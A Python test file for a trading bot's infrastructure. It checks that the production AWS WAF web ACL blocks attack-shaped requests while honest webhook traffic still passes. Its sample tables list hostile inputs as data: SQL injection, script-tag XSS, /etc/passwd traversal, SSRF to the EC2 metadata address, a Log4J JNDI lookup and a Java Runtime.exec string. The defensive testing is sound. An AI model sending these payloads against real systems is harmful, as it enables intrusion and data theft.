"""Which requests the web ACL of production blocks: samples with the rules that match them, against the template's own actions.

AWS keeps the patterns of its rules to itself. Which rules match a sample is therefore read from their descriptions (AWS WAF Developer
Guide, "Baseline rule groups" and "Use-case specific rule groups"), and docs/staging-checklist.md sends the same samples to a real web ACL.
"""

from collections.abc import Iterable, Mapping
from typing import Any

import pytest

from tests.conftest import Synthesize
from tradingbot_infra.design.web_acl_rules import GROUP_OF_RULE, may_meet_honest_requests
from tradingbot_infra.templates import Assembly

PASS: Mapping[str, tuple[str, ...]] = {
    "TradingView alert, valid JSON, application/json": (),
    "TradingView alert, other text, text/plain": (),
    "Telegram update, which has no User-Agent": ("NoUserAgent_HEADER",),
    "Telegram message that quotes http://203.0.113.9/chart": ("NoUserAgent_HEADER", "GenericRFI_BODY"),
    "64 KB of JSON": ("SizeRestrictions_BODY",),
    "prompt: what is at http://169.254.169.254/latest/meta-data/?": ("EC2MetaDataSSRF_BODY", "GenericRFI_BODY"),
    "prompt: why does open('../../data/prices.csv') fail?": ("GenericLFI_BODY",),
    "prompt: what does <script>alert(1)</script> do?": ("CrossSiteScripting_BODY",),
    "prompt: explain SELECT * FROM orders WHERE id = 1 OR 1=1": ("SQLi_BODY", "SQLiExtendedPatterns_BODY"),
}

BLOCKED: Mapping[str, tuple[str, ...]] = {
    "/orders?id=1 OR 1=1": ("SQLi_QUERYARGUMENTS", "SQLiExtendedPatterns_QUERYARGUMENTS"),
    "/orders?note=<script>alert(1)</script>": ("CrossSiteScripting_QUERYARGUMENTS",),
    "/files?name=../../etc/passwd": ("GenericLFI_QUERYARGUMENTS",),
    "/fetch?url=http://203.0.113.9/shell": ("GenericRFI_QUERYARGUMENTS",),
    "/fetch?url=http://169.254.169.254/latest/": ("EC2MetaDataSSRF_QUERYARGUMENTS", "GenericRFI_QUERYARGUMENTS"),
    "/../../etc/passwd": ("GenericLFI_URIPATH",),
    "/backup.ini": ("RestrictedExtensions_URIPATH",),
    "/web-inf/": ("ExploitablePaths_URIPATH",),
    "a cookie with <script>": ("CrossSiteScripting_COOKIE",),
    "a cookie with ' OR 1=1": ("SQLi_COOKIE",),
    "a query of 2,049 bytes": ("SizeRestrictions_QUERYSTRING",),
    "User-Agent: nmap": ("UserAgent_BadBots_HEADER",),
    "Host: localhost": ("Host_localhost_HEADER",),
    "PROPFIND /": ("PROPFIND_METHOD",),
    "a body with ${jndi:ldap://203.0.113.9/}": ("Log4JRCE_BODY",),
    "a body with (java.lang.Runtime).getRuntime().exec": ("JavaDeserializationRCE_BODY",),
    "an attack on React in a body, without User-Agent": ("NoUserAgent_HEADER", "ReactJSRCE_BODY"),
    "an address that AWS knows to attack": ("AWSManagedIPReputationList",),
}


def blocking(rules: list[Any], matching: Iterable[str]) -> str | None:
    """The rule that ends a request, given the rules of AWS that match it; None when the request reaches the application."""
    for group in sorted(rules, key=lambda rule: int(rule["Priority"])):
        statement = group["Statement"].get("ManagedRuleGroupStatement", {})
        counted = {each["Name"] for each in statement.get("RuleActionOverrides", []) if "Count" in each["ActionToUse"]}
        for rule in matching:
            if GROUP_OF_RULE[rule].name == statement.get("Name") and rule not in counted and "None" in group["OverrideAction"]:
                return rule
    return None


def rules_of(assembly: Assembly) -> list[Any]:
    return list(assembly.only("AWS::WAFv2::WebACL").properties["Rules"])


@pytest.mark.parametrize("sample", PASS)
def test_what_honest_clients_send_reaches_the_application(production: Assembly, sample: str) -> None:
    assert blocking(rules_of(production), PASS[sample]) is None


@pytest.mark.parametrize("sample", BLOCKED)
def test_an_attack_is_blocked(production: Assembly, sample: str) -> None:
    assert blocking(rules_of(production), BLOCKED[sample]) is not None


def test_without_counted_rules_honest_clients_are_blocked(synthesize: Synthesize) -> None:
    rules = rules_of(synthesize("production", waf_counted_rules=""))
    passing = {sample for sample, matching in PASS.items() if blocking(rules, matching) is None}
    assert passing == {sample for sample, matching in PASS.items() if not matching}


def test_every_rule_that_counts_is_needed_by_a_sample(production: Assembly) -> None:
    overridden = [rule["Statement"].get("ManagedRuleGroupStatement", {}).get("RuleActionOverrides", []) for rule in rules_of(production)]
    assert {each["Name"] for group in overridden for each in group} == {rule for matching in PASS.values() for rule in matching}


def test_only_rules_that_honest_requests_meet_count() -> None:
    assert all(may_meet_honest_requests(rule) for matching in PASS.values() for rule in matching)
    assert not may_meet_honest_requests("Log4JRCE_BODY")
    assert not may_meet_honest_requests("AWSManagedIPReputationList")
    assert not may_meet_honest_requests("RestrictedExtensions_URIPATH")
